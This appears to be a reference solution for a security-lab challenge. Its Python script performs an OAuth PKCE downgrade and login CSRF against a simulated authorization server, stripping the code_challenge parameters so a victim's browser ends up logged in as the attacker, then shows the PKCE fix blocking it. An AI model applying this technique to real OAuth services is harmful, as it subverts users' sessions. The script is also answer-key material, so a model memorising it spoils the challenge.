# A reference solution for challenge 18.pkce_downgrade: the same login CSRF; the fix proved this time is PKCE.
mallory = httpx.Client(trust_env=False)
mallory.post(f"{lab.flow.as_.url}/login", data={"username": MALLORY[0], "password": MALLORY[1]})


def forged_callback():
    request = query_of(mallory.get(f"{lab.flow.client.url}/login").headers["location"])
    request.pop("code_challenge")
    request.pop("code_challenge_method")
    return mallory.get(f"{lab.flow.as_.url}/authorize", params=request)


lab.flow.victim.visit(forged_callback().headers["location"])
print("alice's browser is logged in as", lab.flow.victim.me())
lab.flow.disable("pkce_downgrade")
print(forged_callback().json())                                # no code without PKCE S256
challenge.check()
